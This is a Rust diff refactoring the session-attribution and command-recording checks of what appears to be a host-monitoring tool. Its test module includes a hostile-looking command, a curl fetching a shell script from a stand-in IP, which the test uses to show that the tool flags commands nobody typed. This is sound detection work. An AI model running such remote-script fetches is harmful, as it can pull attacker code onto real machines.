@@ -67,33 +67,34 @@ struct Process {
     cmd: Option<String>,
 }
 
-/// What the walk found for one exec of the batch.
-#[derive(Debug, Clone, Default, PartialEq)]
-pub struct Lineage {
-    /// The session it belongs to, when found.
-    pub session_id: Option<String>,
-    /// The command line of its parent, when the parent's exec is known.
-    pub parent_cmd: Option<String>,
+impl Process {
+    fn of(event: &HostEvent, session_id: Option<String>) -> Self {
+        Process {
+            time: event.time,
+            ppid: event.ppid,
+            tty: event.tty.clone(),
+            audit_session: event.audit_session,
+            session_id,
+            cmd: event.cmd.clone(),
+        }
+    }
 }
 
 /// Walks the batch's execs (in `host`) to their sessions, with `known` (stored execs on the same
 /// instances, attributed or not) as possible ancestors. Sets `session_id` of the execs it ties
-/// to a session (those already set keep theirs) and returns each exec's lineage by index.
-pub fn attribute(host: &mut [HostEvent], known: &[HostEvent]) -> HashMap<usize, Lineage> {
+/// to a session (those already set keep theirs) and returns, for each exec by index, its
+/// parent's command line when the parent's exec is known.
+pub fn attribute(host: &mut [HostEvent], known: &[HostEvent]) -> HashMap<usize, Option<String>> {
     let max_age = Duration::seconds(MAX_PARENT_AGE);
     // (instance, pid) -> its execs, oldest first.
     let mut table: HashMap<(String, i64), Vec<Process>> = HashMap::new();
     let place = |e: &HostEvent| e.target.clone().or(e.host.clone()).unwrap_or_default();
     for event in known.iter().filter(|e| is_exec(e)) {
         if let Some(pid) = event.pid {
-            table.entry((place(event), pid)).or_default().push(Process {
-                time: event.time,
-                ppid: event.ppid,
-                tty: event.tty.clone(),
-                audit_session: event.audit_session,
-                session_id: event.session_id.clone(),
-                cmd: event.cmd.clone(),
-            });
+            table
+                .entry((place(event), pid))
+                .or_default()
+                .push(Process::of(event, event.session_id.clone()));
         }
     }
     for processes in table.values_mut() {
@@ -165,26 +166,12 @@ pub fn attribute(host: &mut [HostEvent], known: &[HostEvent]) -> HashMap<usize, 
             .or(itself.as_ref().and_then(|p| p.session_id.clone()))
             .or(on_terminal);
 
-        let lineage = Lineage {
-            session_id: session_id.clone(),
-            parent_cmd: parent.and_then(|p| p.cmd),
-        };
         let processes = table.entry((here, pid)).or_default();
         let position = processes.partition_point(|p| p.time <= at);
-        processes.insert(
-            position,
-            Process {
-                time: at,
-                ppid: event.ppid,
-                tty: event.tty.clone(),
-                audit_session: event.audit_session,
-                session_id: session_id.clone(),
-                cmd: event.cmd.clone(),
-            },
-        );
+        processes.insert(position, Process::of(event, session_id.clone()));
+        found.insert(i, parent.and_then(|p| p.cmd));
         host[i].session_id = session_id;
         hold(&mut terminals, &host[i]);
-        found.insert(i, lineage);
     }
     found
 }
@@ -199,7 +186,8 @@ pub fn repeats_an_act(command: &Command) -> bool {
             || command
                 .parent_cmd
                 .as_deref()
-                .is_some_and(|parent| parent.ends_with(&format!(" {}", command.cmd))))
+                .and_then(|parent| parent.strip_suffix(command.cmd.as_str()))
+                .is_some_and(|program| program.ends_with(' ')))
 }
 
 /// Whether a command line the kernel ran shows in what the session's terminal recorded: its
@@ -208,7 +196,7 @@ pub fn repeats_an_act(command: &Command) -> bool {
 /// Lenient on purpose: a shell expands variables, globs and aliases before the kernel sees the
 /// arguments, so only the program's name is compared. A program that never shows in the
 /// recording was typed with echo off, came out of a decoded payload, or ran from a script.
-pub fn seen_in(cmd: &str, recorded: &[&str]) -> bool {
+pub fn seen_in(cmd: &str, recorded: &[impl AsRef<str>]) -> bool {
     let words: Vec<&str> = cmd.split_whitespace().map(unquoted).collect();
     let Some(first) = words.first() else {
         return true;
@@ -220,7 +208,8 @@ pub fn seen_in(cmd: &str, recorded: &[&str]) -> bool {
         names.push(base(script));
     }
     recorded.iter().any(|line| {
-        line.split(|c: char| c.is_whitespace() || "|;&()`$<>".contains(c))
+        line.as_ref()
+            .split(|c: char| c.is_whitespace() || "|;&()`$<>".contains(c))
             .map(unquoted)
             .any(|word| names.contains(&base(word)))
     })
@@ -328,8 +317,8 @@ mod tests {
                 .chain([None])
                 .collect::<Vec<_>>()
         );
-        assert_eq!(lineage[&5].parent_cmd.as_deref(), Some("-bash"));
-        assert_eq!(lineage[&0].parent_cmd, None);
+        assert_eq!(lineage[&5].as_deref(), Some("-bash"));
+        assert_eq!(lineage[&0], None);
     }
 
     #[test]
@@ -445,6 +434,6 @@ mod tests {
         // What the script ran, and what was typed blind.
         assert!(!seen_in("curl -s http://198.51.100.250/i.sh", &typed));
         assert!(!seen_in("bash", &typed));
-        assert!(!seen_in("tail", &[]));
+        assert!(!seen_in("tail", &[] as &[&str]));
     }
 }
